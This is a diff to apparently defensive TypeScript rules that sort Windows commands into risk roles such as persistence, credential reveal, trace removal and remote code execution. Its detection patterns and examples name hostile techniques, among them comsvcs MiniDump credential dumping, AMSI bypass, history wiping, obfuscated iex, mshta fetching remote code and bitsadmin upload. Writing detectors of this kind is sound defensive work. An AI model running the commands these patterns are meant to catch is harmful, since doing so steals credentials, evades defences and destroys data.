@@ -1,9 +1,20 @@
-import { anyArgument, argumentIs, argumentsAfter, argumentsUnlike, nth, operandIs, paths, type Select } from "./act.ts";
+import {
+  anyArgument,
+  argumentIs,
+  argumentsAfter,
+  argumentsAre,
+  argumentsUnlike,
+  nth,
+  operandIs,
+  paths,
+  type Select,
+} from "./act.ts";
 import { argumentText, type Call, deletes, plays, reads, reveals, runsCodeFrom, someArgument, writes } from "./call.ts";
 import { beside, flag, hasFlag, isTrial, pathArguments, source, sourceAndTarget, target } from "./cmdlet-arguments.ts";
 import { tellSql } from "./databases.ts";
 import { showsVariables } from "./power-shell-output.ts";
 import type { Programs } from "./program.ts";
+import { asLine } from "./runs.ts";
 
 /** Programs and cmdlets of Windows, where the words show them. */
 export const WINDOWS = (): Programs => ({
@@ -36,7 +47,7 @@ export const WINDOWS = (): Programs => ({
     roles: ["disk", "overwrite"],
     examples: [["format C:", "disk overwrite"], ["format src"]],
   },
-  "format-volume clear-disk initialize-disk diskpart remove-partition": {
+  diskpart: {
     roles: ["disk", "overwrite"],
     examples: [["diskpart /s wipe.txt", "disk overwrite"]],
   },
@@ -50,9 +61,9 @@ export const WINDOWS = (): Programs => ({
     ],
     examples: [["reg query HKCU"], ["reg delete HKCU\\x /f", "settings"]],
   },
-  "set-itemproperty new-itemproperty set-executionpolicy set-service new-service register-scheduledtask": {
+  "set-itemproperty new-itemproperty set-executionpolicy set-service": {
     is: {
-      scheduler: "new-service register-scheduledtask set-itemproperty new-itemproperty",
+      scheduler: "set-itemproperty new-itemproperty",
       "system-settings": "set-executionpolicy set-itemproperty new-itemproperty",
     },
     does: (call) => {
@@ -65,7 +76,7 @@ export const WINDOWS = (): Programs => ({
       if (isOwn) return;
       plays(call, "settings");
       if (/^set-service$/i.test(call.report.program) && /\b(?:disabled|stopped)\b/i.test(words)) plays(call, "kill");
-      else if (/service|task/i.test(call.report.program)) plays(call, "persistence");
+      else if (/service/i.test(call.report.program)) plays(call, "persistence");
     },
     examples: [
       ["Set-ExecutionPolicy Bypass", "settings"],
@@ -104,8 +115,6 @@ export const WINDOWS = (): Programs => ({
     does: (call) => tellSql(call, argumentsAfter(/^-q(?:uery)?$/i)(call)),
     examples: [["Invoke-Sqlcmd -Query 'DROP TABLE x'", "database work-loss"]],
   },
-  "remove-azresourcegroup remove-azvm remove-azresource remove-azsqldatabase remove-azstorageaccount remove-azkeyvault remove-azakscluster remove-s3bucket remove-s3object remove-ec2instance remove-ec2volume remove-rdsdbinstance remove-cfnstack remove-ddbtable remove-gcsbucket remove-gceinstance stop-ec2instance stop-azvm remove-mguser remove-azaduser":
-    { roles: ["cloud", "work-loss"], examples: [["Remove-AzResourceGroup -Name x -Force", "cloud work-loss"]] },
   "set-content add-content out-file clear-content new-item": {
     is: { "makes-windows-links": "new-item" },
     unless: isTrial,
@@ -154,6 +163,7 @@ export const WINDOWS = (): Programs => ({
       // What other commands of the line have read may be the body.
       { when: anyArgument(/^-(?:body|infile)/i), sends: "reads" },
       { writes: argumentsAfter(/^-(?:outfile|destination)$/i) },
+      { names: "bitsadmin", when: anyArgument(/^\/upload$/i), reads: nth(-1, everyArgument), sends: "reads" },
       { names: "start-bitstransfer", when: [hasAddress, argumentIs(1, /^[^-]/)], writes: nth(1, everyArgument) },
       { names: "certutil bitsadmin", when: hasAddress, unless: endsWithAddress, writes: nth(-1, everyArgument) },
     ],
@@ -199,7 +209,13 @@ export const WINDOWS = (): Programs => ({
         runsCodeFrom(call, "text");
       const isFetched =
         /\b(?:iex|invoke-expression)\b|\.invoke\(|scriptblock\]::create/i.test(line) && FETCHES().test(line);
-      if (isHidden) runsCodeFrom(call, "text");
+      // A text that is put together from letters or numbers, or reversed, and run.
+      if (isHidden || (RUNS_TEXT().test(line) && BUILT_TEXT().test(line))) runsCodeFrom(call, "text");
+      if (/PtrToString\w*\(.{0,120}SecureString|GetNetworkCredential\(\)\.Password/i.test(line)) reveals(call);
+      if (/AmsiUtils|amsiInitFailed|AmsiScanBuffer/i.test(line)) plays(call, "trace-removal");
+      if (/HistorySavePath/.test(line) && /remove-item|clear-content|\brm\b|\bdel\b/i.test(line))
+        plays(call, "trace-removal");
+      if (/set-item\s.{0,60}wsman:.{0,60}trustedhosts/i.test(line)) plays(call, "expose");
       if (/Net\.Sockets\.TCP(?:Client|Listener)/i.test(line) && /GetStream\(|AcceptTcp/i.test(line))
         plays(call, "expose");
       if (isFetched) runsCodeFrom(call, "network");
@@ -227,11 +243,25 @@ export const WINDOWS = (): Programs => ({
       ["powershell -c 'Get-Clipboard | iex'", "run-code", "network flows to shell"],
     ],
   },
-  "mshta regsvr32 rundll32 wscript cscript": {
-    when: anyArgument(FROM_ELSEWHERE),
-    does: (call) => runsCodeFrom(call, "network"),
+  "mshta regsvr32 rundll32 wscript cscript msbuild msiexec installutil": {
+    does: [
+      // The memory of the program that checks passwords.
+      { when: argumentsAre(/comsvcs.{0,200}MiniDump/i), keys: true },
+      { when: anyArgument(FROM_ELSEWHERE), does: (call) => runsCodeFrom(call, "network") },
+    ],
     examples: [["mshta http://h.test/x.hta", "run-code", "network flows to shell"]],
   },
+  "psexec psexec64 paexec": {
+    roles: ["privilege"],
+    talks: "both",
+    examples: [["psexec -s cmd", "privilege network-in network-out", "talks to ?"]],
+  },
+  forfiles: {
+    runs: (run) =>
+      run.args.flatMap((word, at, all) => (/^\/c$/i.test(all[at - 1]?.text ?? "") ? asLine("forfiles", [word]) : [])),
+    examples: [["forfiles /c 'rm x'", "runs rm x"]],
+  },
+  "get-clipboard gcb": { gives: "environment", examples: [["Get-Clipboard"]] },
   robocopy: {
     reads: nth(0, argumentsUnlike(/^\/[a-z]/i)),
     writes: nth(1, argumentsUnlike(/^\/[a-z]/i)),
@@ -245,12 +275,14 @@ export const WINDOWS = (): Programs => ({
       ["robocopy a b /MIR", "reads a tree", "writes b tree", "deletes b tree"],
     ],
   },
-  "vssadmin wbadmin bcdedit cipher wmic": {
+  "vssadmin wbadmin bcdedit cipher wmic reagentc": {
     readOnly: "list|get",
-    is: { "system-settings": "bcdedit" },
+    is: { "system-settings": "bcdedit reagentc" },
     does: (call) => {
       const words = call.command.args.map(({ text }) => text.toLowerCase());
-      if (words.some((text) => /^(?:delete|\/w|\/set|\/delete)/.test(text))) plays(call, "work-loss", "settings");
+      if (words.some((text) => /^\/format:.?https?:/.test(text))) runsCodeFrom(call, "network");
+      if (words.some((text) => /^(?:delete|\/w|\/set|\/delete|\/disable)/.test(text)))
+        plays(call, "work-loss", "settings");
       if (words[0] === "os" && words.some((text) => /^(?:reboot|shutdown|win32shutdown)$/.test(text)))
         plays(call, "power");
       // Deleted files cannot be restored any more.
@@ -265,12 +297,6 @@ export const WINDOWS = (): Programs => ({
       ["vssadmin list shadows"],
     ],
   },
-  "set-mppreference add-mppreference set-netfirewallprofile set-netfirewallrule new-netfirewallrule remove-netfirewallrule disable-netfirewallrule disable-computerrestore disable-windowsoptionalfeature set-smbserverconfiguration":
-    {
-      is: { "system-settings": true },
-      roles: ["settings"],
-      examples: [["Set-MpPreference -DisableRealtimeMonitoring 1", "settings"]],
-    },
   "clear-eventlog remove-eventlog clear-history": {
     roles: ["trace-removal"],
     examples: [["Clear-EventLog -LogName Security", "trace-removal"]],
@@ -285,12 +311,6 @@ export const WINDOWS = (): Programs => ({
       ["Expand-Archive -DestinationPath b -Path a.zip", "reads a.zip tree", "writes b tree"],
     ],
   },
-  "new-localuser remove-localuser set-localuser disable-localuser enable-localuser rename-localuser new-localgroup remove-localgroup remove-localgroupmember add-localgroupmember remove-aduser set-adaccountpassword disable-adaccount add-adgroupmember":
-    {
-      is: { "system-account": true },
-      roles: ["account"],
-      examples: [["Add-LocalGroupMember Administrators me", "account"]],
-    },
   "stop-service suspend-service remove-service spsv": {
     unless: isTrial,
     roles: ["kill", "settings"],
@@ -345,6 +365,9 @@ export const WINDOWS = (): Programs => ({
   },
 });
 
+const RUNS_TEXT = () => /\b(?:iex|invoke-expression|scriptblock\]::create)\b|(?:^|[;|{&]\s*)&\s*[($]/i;
+const BUILT_TEXT = () =>
+  /\[char\]|-join\s*['"(]|-join\s*\$|\[-1\.\.|\[array\]::reverse|['"]\s*-f\s*['"]|-bxor|\.replace\(.{0,80}\)\s*\||(?:['"]\s*\+\s*['"]\w{1,30}['"].{0,200}){2}/i;
 /** An address, code in one, or a share of another machine; a Unix shell leaves one of two backslashes. */
 const FROM_ELSEWHERE = /https?:|javascript:|vbscript:|^\\{1,2}(?:\d+\.|[\w-]+[.\\])/i;
 const FETCHES = () =>
